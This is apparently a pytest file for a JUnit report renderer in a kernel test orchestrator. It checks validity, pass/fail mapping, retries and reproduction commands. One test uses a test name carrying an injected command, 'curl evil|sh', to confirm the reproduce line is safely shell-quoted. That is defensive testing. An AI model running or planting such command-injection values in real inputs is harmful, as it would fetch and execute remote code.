"""JUnit documents: valid, never greener than the verdict, and readable where it is red."""

from __future__ import annotations

import dataclasses
import itertools
import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from orchestrator.model import Side, Splat, Stage, StageResult, Status, SuiteRun, TestResult, Verdict
from orchestrator.report import junit
from tests.fakes import results as fixture

SCHEMA = etree.XMLSchema(etree.parse(str(Path(__file__).parents[2] / "samples" / "junit-10.xsd")))


def read(document: str) -> etree._Element:
    """Parse, validate, and check that the counts are those of the cases."""
    root = etree.fromstring(document.encode())
    SCHEMA.assertValid(root)
    for suite in root.iter("testsuite"):
        cases = suite.findall("testcase")
        assert int(suite.get("tests")) == len(cases)
        for count, tag in (("failures", "failure"), ("errors", "error"), ("skipped", "skipped")):
            assert int(suite.get(count)) == sum(case.find(tag) is not None for case in cases)
    names = [(case.get("classname"), case.get("name")) for case in root.iter("testcase")]
    assert len(names) == len(set(names))
    return root


def case(root: etree._Element, name: str, group: str = "") -> etree._Element:
    (found,) = (c for c in root.iter("testcase") if c.get("name") == name and c.get("classname").endswith(group))
    return found


def outcome(element: etree._Element) -> str:
    tags = [child.tag for child in element if child.tag in ("failure", "error", "skipped")]
    assert len(tags) < 2
    return tags[0] if tags else "passed"


ROOT = read(junit.render(fixture.run(fixture.series(*fixture.pair()))))


@pytest.mark.parametrize(
    ("test", "how", "message"),
    [
        ("promised", "passed", ""),
        ("same", "passed", ""),
        ("fixed", "passed", ""),
        ("known", "skipped", "broken→broken: fail, as expected: patch 5 is not in"),
        ("both", "skipped", "broken→broken: broken on base too"),
        ("loose", "skipped", "broken→works: recorded, not judged"),
        ("worse", "failure", "works→broken: regression"),
    ],
)
def test_one_case_for_each_transition(test: str, how: str, message: str) -> None:
    found = case(ROOT, test, ".uffd")
    assert outcome(found) == how
    if message:
        assert found.find(how).get("message") == message


def test_a_red_case_tells_what_happened_and_how_to_see_it_again() -> None:
    text = case(ROOT, "worse", ".uffd").findtext("failure")
    assert "patched: timeout" in text
    assert "line two" in text
    assert "/r/jobs/patched/reproduce.sh worse" in text


def test_what_is_pasted_into_a_shell_runs_nothing_else() -> None:
    name = "p.x; curl evil|sh #\x07 it's"
    base, patched = (
        fixture.job(side, (TestResult(name, status),), directory=Path("/r/my jobs"))
        for side, status in ((Side.BASE, Status.PASS), (Side.PATCHED, Status.FAIL))
    )
    root = read(junit.render(fixture.run(fixture.series(base, patched))))
    (text,) = (found.text for found in root.iter("failure") if "reproduce: " in (found.text or ""))
    command = text.partition("reproduce: ")[2]
    assert shlex.split(command) == ["/r/my jobs/reproduce.sh", "p.x; curl evil|sh # it's"]


def test_control_bytes_are_gone_and_the_text_is_not() -> None:
    out = case(ROOT, "known", ".uffd").findtext("system-out")
    assert "bell  escape red nul  tags <a> & ]]>" in out
    assert not any(ord(char) < 32 and char != "\n" for char in out)


def test_console_cases() -> None:
    new = case(ROOT, "patched: BUG: Bad page map in <zap>")
    assert outcome(new) == "failure"
    assert new.find("failure").get("message") == "BUG: Bad page map in <zap> during worse (2 times)"
    assert outcome(case(ROOT, "patched: WARNING in old")) == "skipped"
    assert outcome(case(ROOT, "base: WARNING in old")) == "skipped"
    allowed = case(ROOT, "patched: Out of memory")
    assert allowed.find("skipped").get("message") == "allowed: expected (https://example.org)"


def test_a_clean_console_is_a_case_that_passes_and_an_absent_one_is_not() -> None:
    base, patched = (fixture.job(side, (TestResult("a", Status.PASS),)) for side in Side)
    root = read(junit.render(fixture.run(fixture.series(base, patched))))
    assert outcome(case(root, "patched: no splat")) == "passed"
    unbuilt = dataclasses.replace(
        patched, stages=(StageResult(Stage.BUILD, Verdict.FAIL, 1.0, "mm/a.c:1: error", Path("/r/b.log")),), suites=()
    )
    root = read(junit.render(fixture.run(fixture.series(base, unbuilt))))
    assert outcome(case(root, "patched: no splat")) == "skipped"
    stage = case(root, "patched: build", ".stages")
    assert stage.find("failure").get("message") == "mm/a.c:1: error"
    assert "/r/b.log" in stage.findtext("failure")


def test_retries_are_told() -> None:
    base = fixture.job(Side.BASE, (TestResult("a", Status.PASS),))
    tries = SuiteRun("uffd", (TestResult("a", Status.PASS),), (), 1.0, (), (("a", (Status.FAIL, Status.PASS)),))
    root = read(junit.render(fixture.run(fixture.series(base, fixture.job(Side.PATCHED, (), suites=(tries,))))))
    found = case(root, "a", ".uffd")
    assert outcome(found) == "failure"
    assert "fail → pass → pass" in found.findtext("system-out")


HOW = {Verdict.PASS: "passed", Verdict.FAIL: "failure", Verdict.INFRA: "error", Verdict.SKIP: "skipped"}


@pytest.mark.parametrize(("base", "patched"), list(itertools.product(Verdict, Verdict)))
def test_the_document_is_never_greener_than_the_run(base: Verdict, patched: Verdict) -> None:
    test = (TestResult("a", Status.PASS),)
    jobs = [
        fixture.job(side, test, stages=(StageResult(Stage.BOOT, how, 1.0, "boom"),))
        for side, how in ((Side.BASE, base), (Side.PATCHED, patched))
    ]
    result = fixture.run(fixture.series(*jobs))
    root = read(junit.render(result))
    red = any(outcome(c) in ("failure", "error") for c in root.iter("testcase"))
    assert red or result.verdict in (Verdict.PASS, Verdict.SKIP)
    assert outcome(case(root, "verdict", "run")) == HOW[result.verdict]


@pytest.mark.parametrize("verdict", list(Verdict))
@pytest.mark.parametrize("reason", ["", "\x00", "  \n"])
def test_a_verdict_without_a_reason_is_still_there(verdict: Verdict, reason: str) -> None:
    job = fixture.job(Side.PATCHED, (TestResult("a", Status.PASS),), verdict=verdict, reason=reason)
    assert outcome(case(read(junit.render_job(job)), "verdict")) == HOW[verdict]


STATUSES = {
    Status.PASS: "passed",
    Status.FAIL: "failure",
    Status.SKIP: "skipped",
    Status.XFAIL: "skipped",
    Status.ERROR: "error",
    Status.TIMEOUT: "failure",
    Status.CRASHED: "failure",
    Status.MISSING: "error",
}


@pytest.mark.parametrize("status", list(Status))
def test_statuses_of_one_job(status: Status) -> None:
    job = fixture.job(Side.BASE, (TestResult("a", status, "why"),))
    assert outcome(case(read(junit.render_job(job)), "a")) == STATUSES[status]


def test_one_job_by_its_expectations() -> None:
    root = read(junit.render_job(fixture.pair()[0], fixture.EXPECTED, "stock"))
    assert case(root, "known", ".uffd").find("skipped").get("message") == "fail, as expected: patch 5 is not in"
    assert outcome(case(root, "loose", ".uffd")) == "skipped"
    assert outcome(case(root, "both", ".uffd")) == "failure"
    root = read(junit.render_job(fixture.pair()[0], fixture.EXPECTED, "patched"))
    assert outcome(case(root, "promised", ".uffd")) == "failure"
    assert outcome(case(root, "WARNING in old".join(["base: ", ""]))) == "failure"


def test_a_tree_by_itself_is_as_red_in_the_document_of_the_run_as_in_its_own() -> None:
    tests = tuple(TestResult(name, status) for name, status in BY_ITSELF.items())
    tries = SuiteRun("uffd", (*tests, TestResult("flaky", Status.PASS)), (), 1.0, (), (("flaky", (Status.FAIL,)),))
    unexpected = (("uffd", "worse"), ("uffd", "better"))
    job = fixture.job(Side.BASE, (), suites=(tries,), unexpected=unexpected)
    root = read(junit.render(fixture.run(alone=(job,))))
    shown = {name: case(root, name, ".uffd") for name in (*BY_ITSELF, "flaky")}
    assert {name for name, one in shown.items() if outcome(one) == "failure"} == {"worse", "better"}
    assert shown["known"].find("skipped").get("message").startswith("fail, as expected")
    assert shown["better"].find("failure").get("message") == "pass, not as expected"
    assert outcome(shown["flaky"]) == "skipped" and outcome(shown["fine"]) == "passed"


BY_ITSELF = {"known": Status.FAIL, "worse": Status.TIMEOUT, "better": Status.PASS, "fine": Status.PASS}


@pytest.mark.parametrize(
    ("name", "tries", "shown", "message"),
    [
        ("a", (Status.XFAIL, Status.PASS), "skipped", "1 of 2 tries failed as expected"),
        ("a", (Status.SKIP, Status.PASS), "skipped", "1 of 2 tries skipped"),
        ("a", (Status.XFAIL, Status.FAIL, Status.PASS), "failure", "flaky: xfail → fail → pass"),
        ("promised", (Status.SKIP, Status.PASS), "failure", "skip, expected pass: skip → pass"),
        ("promised", (Status.XFAIL, Status.PASS), "failure", "xfail, expected pass: xfail → pass"),
        ("known", (Status.PASS, Status.FAIL), "failure", "pass, expected fail: pass → fail"),
    ],
)
def test_the_worst_try_counts(name: str, tries: tuple[Status, ...], shown: str, message: str) -> None:
    run = SuiteRun("uffd", (TestResult(name, tries[-1]),), (), 1.0, (), ((name, tries[:-1]),))
    job = fixture.job(Side.PATCHED, (), suites=(run,))
    found = case(read(junit.render_job(job, fixture.EXPECTED, "patched")), name, ".uffd")
    assert outcome(found) == shown and found.find(shown).get("message").startswith(message)


def test_problems_of_the_output_are_red() -> None:
    run = SuiteRun("uffd", (TestResult("a", Status.PASS),), (), 1.0, ("no plan line", "no plan line"))
    root = read(junit.render_job(fixture.job(Side.BASE, (), suites=(run,))))
    assert outcome(case(root, "output: no plan line")) == "failure"


TEXT = st.text(max_size=60)


@settings(max_examples=60, deadline=None)
@given(TEXT, TEXT, st.sampled_from(Status), TEXT)
def test_any_text_makes_a_valid_document(name: str, reason: str, status: Status, title: str) -> None:
    test = TestResult(name, status, reason, (reason,))
    splat = Splat("bug", title, 1, 2, reason, True, name)
    base = fixture.job(Side.BASE, (TestResult(name, Status.PASS),))
    patched = fixture.job(Side.PATCHED, (test,), splats=(splat,), reason=reason)
    read(junit.render(fixture.run(fixture.series(base, patched))))
    root = read(junit.render_job(patched))
    assert any(outcome(c) == "failure" for c in root.iter("testcase"))
